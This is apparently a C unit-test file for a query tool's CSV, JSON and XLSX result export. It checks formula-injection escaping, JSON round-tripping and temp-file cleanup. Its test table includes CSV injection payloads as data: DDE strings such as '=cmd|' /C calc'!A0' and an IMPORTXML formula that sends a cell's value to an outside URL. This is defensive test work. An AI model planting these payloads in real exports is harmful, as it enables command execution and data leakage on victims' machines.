/* Results as files: what a strict reader gets back, that no spreadsheet finds a formula, and that nothing is left. */
#include <glob.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "lib/arena.h"
#include "lib/buf.h"
#include "lib/ctx.h"
#include "lib/json.h"
#include "query/query.h"
#include "unit.h"

static struct ctx ctx;

static int setup(void **state)
{
	(void)state;
	ctx = (struct ctx){.a = arena_create(), .request_id = "", .address = ""};
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	arena_free(ctx.a);
	return 0;
}

static struct err *collect(void *arg, struct str bytes)
{
	buf_add_str(arg, bytes);
	return NULL;
}

/* The rows as a file of that format. */
static struct str written(const char *format, const struct query_result *r)
{
	struct buf *b = ARENA_NEW(ctx.a, struct buf);
	const struct query_output out = {collect, b};
	const struct query_sink *sink;
	struct query_file *file;

	*b = buf_init(ctx.a, BUF_RESULT);
	assert_ok(query_file_open(&ctx, query_format(str_of(format)), &out, &file));
	sink = query_file_sink(file);
	assert_ok(sink->columns(sink->arg, r->columns, r->ncolumns));
	for (size_t i = 0; i < r->nrows; i++)
		assert_ok(sink->row(sink->arg, r->cells + i * r->ncolumns));
	assert_ok(query_file_close(file, r));
	return buf_str(b);
}

/* Reads one field by RFC 4180 and fails on anything that is not in it. *quoted tells "" from nothing. */
static char *read_field(const char **p, bool *quoted)
{
	struct buf b = buf_init(ctx.a, BUF_PAGE);

	*quoted = **p == '"';
	if (!*quoted) {
		for (; **p && !strchr(",\r\n", **p); (*p)++) {
			assert_true(**p != '"');
			buf_add_char(&b, **p);
		}
		return arena_strdup(ctx.a, buf_cstr(&b));
	}
	for ((*p)++;; (*p)++) {
		assert_true(**p != '\0');
		if (**p == '"' && (*p)[1] != '"')
			break;
		*p += **p == '"';
		buf_add_char(&b, **p);
	}
	(*p)++;
	return arena_strdup(ctx.a, buf_cstr(&b));
}

static void expect_end(const char **p, const char *end)
{
	assert_memory_equal(*p, end, strlen(end));
	*p += strlen(end);
}

/* A text, and whether some spreadsheet would take it for a formula. */
static const struct {
	const char *text;
	bool formula;
} texts[] = {
        {"=1+1", true},
        {"=", true},
        {"==1", true},
        {"=HYPERLINK(\"http://x\",\"y\")", true},
        {"=cmd|' /C calc'!A0", true},
        {"=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")", true},
        {"=A1;B1", true},
        {"=1,2", true},
        {"=\n1", true},
        {"+1", true},
        {"+1+cmd|' /C calc'!A0", true},
        {"+SUM(A1:A9)", true},
        {"+49 30 123456", true},
        {"-1", true},
        {"-", true},
        {"-1+1", true},
        {"-cmd|' /C calc'!A0", true},
        {"--help", true},
        {"@SUM(1+1)*cmd|' /C calc'!A0", true},
        {"@someone", true},
        {"\t=1", true},
        {"\tx", true},
        {"\t", true},
        {"\r=1", true},
        {"\rx", true},
        {"\n=1", true},
        {"\nx", true},
        {"\r\n=1", true},
        {" =1", true},
        {"   =1", true},
        {" \t=1", true},
        {" +1", true},
        {" -1", true},
        {" @x", true},
        {"\xc2\xa0=1", true},
        {"\xe2\x80\x83=1", true},
        {"\xe2\x80\x8b=1", true},
        {"\xe2\x80\xa8=1", true},
        {"\xe2\x81\xa0=1", true},
        {"\xe3\x80\x80=1", true},
        {"\xef\xbb\xbf=1", true},
        {"\v=1", true},
        {"\f=1", true},
        {"'=1", true},
        {"''=1", true},
        {"' =1", true},
        {"'\tx", true},
        {"\"=1", true},
        {"\"=1\"", true},
        {"\"\"=1", true},
        {"\" =1", true},
        {"\"-1", true},
        {"\xef\xbc\x9d\x31", true},
        {"\xef\xbc\x8b\x31", true},
        {"\xef\xbc\x8d\x31", true},
        {"\xef\xbc\xa0x", true},
        {" \xef\xbc\x9d\x31", true},
        {"\xef\xb9\xa6\x31", true},
        {"\xef\xb9\xa2\x31", true},
        {"\xef\xb9\xa3\x31", true},
        {"\xef\xb9\xabx", true},
        {"a", false},
        {"a=1", false},
        {"1-2", false},
        {"1,5", false},
        {"a;=1", false},
        {"a,=1", false},
        {"a\n=1", false},
        {"a\r\nb", false},
        {"say \"hi\"", false},
        {"\"", false},
        {"\"quoted\"", false},
        {"'s-Hertogenbosch", false},
        {"'", false},
        {" x ", false},
        {" ", false},
        {"", false},
        {"NULL", false},
        {"\xc3\xa4\xe2\x82\xac\xf0\x9f\x98\x80", false},
        {"\xe2\x82\xac=1", false},
        {"\\N", false},
        {"a\tb", false},
        {"|x", false},
        {"%x", false},
        {"#REF!", false},
};

enum { TEXTS = sizeof(texts) / sizeof(*texts) };

static bool starts_a_formula(struct str s)
{
	static const char *const starts[] = {"=",  "+", "-",  "@",  "\t",   "\r",
	                                     "\n", " ", "\v", "\f", "\xc2", "\xef"};

	for (size_t i = 0; i < sizeof(starts) / sizeof(*starts); i++)
		if (str_starts(s, str_of(starts[i])))
			return true;
	return false;
}

static void test_query__csv_gives_texts_back_and_no_formula(void **state)
{
	const char *cells[TEXTS * 2];
	struct query_column columns[] = {{"=name", "text", QUERY_TEXT}, {"doc", "jsonb", QUERY_JSON}};
	struct query_result r = {.columns = columns, .ncolumns = 2, .cells = cells, .nrows = TEXTS};
	const char *p;
	bool quoted;

	(void)state;
	for (size_t i = 0; i < TEXTS; i++)
		cells[2 * i] = cells[2 * i + 1] = texts[i].text;
	p = written("csv", &r).p;
	assert_string_equal(read_field(&p, &quoted), "'=name");
	expect_end(&p, ",");
	assert_string_equal(read_field(&p, &quoted), "doc");
	expect_end(&p, "\r\n");
	for (size_t i = 0; i < 2 * TEXTS; i++) {
		const char *field = read_field(&p, &quoted), *text = texts[i / 2].text;

		if (texts[i / 2].formula) {
			assert_int_equal(field[0], '\'');
			field++;
		} else {
			assert_false(starts_a_formula(str_of(field)) && field[0] != ' ');
		}
		assert_string_equal(field, text);
		assert_true(quoted || *text);
		expect_end(&p, i % 2 ? "\r\n" : ",");
	}
	assert_int_equal(*p, '\0');
}

static void test_query__csv_leaves_numbers_alone_and_knows_null(void **state)
{
	struct query_column columns[] = {{"n", "numeric", QUERY_NUMBER},
	                                 {"t", "text", QUERY_TEXT},
	                                 {"d", "date", QUERY_DATE},
	                                 {"b", "boolean", QUERY_BOOL}};
	const char *cells[] = {"-5", "-5", "2025-12-31", "true", NULL,        NULL,
	                       NULL, NULL, "-Infinity",  "",     "-infinity", "false"};
	struct query_result r = {.columns = columns, .ncolumns = 4, .cells = cells, .nrows = 3};

	(void)state;
	assert_str(written("csv", &r),
	           "n,t,d,b\r\n-5,'-5,2025-12-31,true\r\n,,,\r\n-Infinity,\"\",-infinity,false\r\n");
	r.nrows = 0;
	assert_str(written("csv", &r), "n,t,d,b\r\n");
}

static void test_query__json_reads_back_as_the_result(void **state)
{
	struct query_column columns[] = {{"n", "numeric", QUERY_NUMBER},
	                                 {"f", "double precision", QUERY_NUMBER},
	                                 {"t", "text", QUERY_TEXT}};
	const char *cells[] = {"-0.50",
	                       "0.30000000000000004",
	                       "<a>&\"\\\n\xe2\x80\xa8",
	                       "9007199254740993",
	                       "NaN",
	                       "=1",
	                       "1e5",
	                       "-Infinity",
	                       NULL,
	                       "000",
	                       "1e-07",
	                       ""};
	struct query_result r = {.columns = columns,
	                         .ncolumns = 3,
	                         .cells = cells,
	                         .nrows = 4,
	                         .truncated = true,
	                         .cut = "only the first 4 rows were fetched"},
	                    *again;
	struct json_object *o;
	struct str text = written("json", &r);

	(void)state;
	assert_true(str_find(text, STR("[-0.50,0.30000000000000004,")) > 0);
	assert_true(str_find(text, STR("[\"9007199254740993\",\"NaN\",\"=1\"]")) > 0);
	assert_true(str_find(text, STR("[\"000\",\"1e-07\",\"\"]")) > 0);
	assert_ok(json_read(ctx.a, text, JSON_DEPTH, &o));
	assert_ok(query_read_json(ctx.a, o, &again));
	assert_int_equal(again->nrows, 4);
	assert_string_equal(again->cut, r.cut);
	for (size_t i = 0; i < 12; i++) {
		if (cells[i])
			assert_string_equal(again->cells[i], cells[i]);
		else
			assert_null(again->cells[i]);
	}
	r.nrows = 0;
	assert_ok(json_read(ctx.a, written("json", &r), JSON_DEPTH, &o));
	assert_int_equal(json_length(json_get_array(o, "rows")), 0);
}

/* Everything below a directory of this test's own. */
static size_t left_over(const char *dir)
{
	glob_t g;
	size_t n;

	(void)glob(arena_printf(ctx.a, "%s/*", dir), 0, NULL, &g);
	n = g.gl_pathc;
	globfree(&g);
	return n;
}

static struct err *broken(void *arg, struct str bytes)
{
	(void)bytes;
	return err_new(ctx.a, ERR_CANCELLED, "%s", (const char *)arg);
}

/* Whatever happens on the way, nothing stays on disk. */
static void test_query__xlsx_leaves_nothing_behind(void **state)
{
	struct query_column columns[] = {{"t", "text", QUERY_TEXT}};
	const char *cells[] = {"a"};
	struct query_result r = {
	        .columns = columns, .ncolumns = 1, .cells = cells, .nrows = 1, .sql_asked = "SELECT 1"};
	const struct query_output out = {broken, "gone"};
	const struct query_sink *sink;
	struct query_file *file;
	char dir[] = "/tmp/quern-unit-XXXXXX";

	assert_non_null(mkdtemp(dir));
	setenv("TMPDIR", dir, 1);
	assert_memory_equal(written("xlsx", &r).p, "PK\3\4", 4);
	/* The rest of a workbook goes with the arena that made it. */
	teardown(state);
	setup(state);
	for (int step = 0; step < 4; step++) {
		assert_ok(query_file_open(&ctx, query_format(STR("xlsx")), &out, &file));
		assert_true(left_over(dir) > 0);
		sink = query_file_sink(file);
		if (step > 0)
			assert_ok(sink->columns(sink->arg, columns, 1));
		if (step > 1)
			assert_ok(sink->row(sink->arg, cells));
		if (step > 2)
			assert_err(query_file_close(file, &r), ERR_CANCELLED);
		teardown(state);
		setup(state);
		assert_int_equal(left_over(dir), 0);
	}
	assert_int_equal(rmdir(dir), 0);
	unsetenv("TMPDIR");
}

static void test_query__xlsx_without_a_place_for_files_says_so(void **state)
{
	const struct query_output out = {broken, "gone"};
	struct query_file *file;

	(void)state;
	setenv("TMPDIR", "/nowhere", 1);
	assert_err(query_file_open(&ctx, query_format(STR("xlsx")), &out, &file), ERR_UNAVAILABLE);
	unsetenv("TMPDIR");
}

static void test_query__formats_go_by_name(void **state)
{
	(void)state;
	assert_string_equal(query_format(STR("csv"))->name, "csv");
	assert_int_equal(query_format(STR("xlsx"))->max_rows, 1048575);
	assert_null(query_format(STR("CSV")));
	assert_null(query_format(STR("")));
}

#define TEST(f) cmocka_unit_test_setup_teardown(f, setup, teardown)

static const struct CMUnitTest query_file_tests[] = {
        TEST(test_query__csv_gives_texts_back_and_no_formula),
        TEST(test_query__csv_leaves_numbers_alone_and_knows_null),
        TEST(test_query__json_reads_back_as_the_result),
        TEST(test_query__xlsx_leaves_nothing_behind),
        TEST(test_query__xlsx_without_a_place_for_files_says_so),
        TEST(test_query__formats_go_by_name),
};
UNIT_SUITE(query_file_tests);
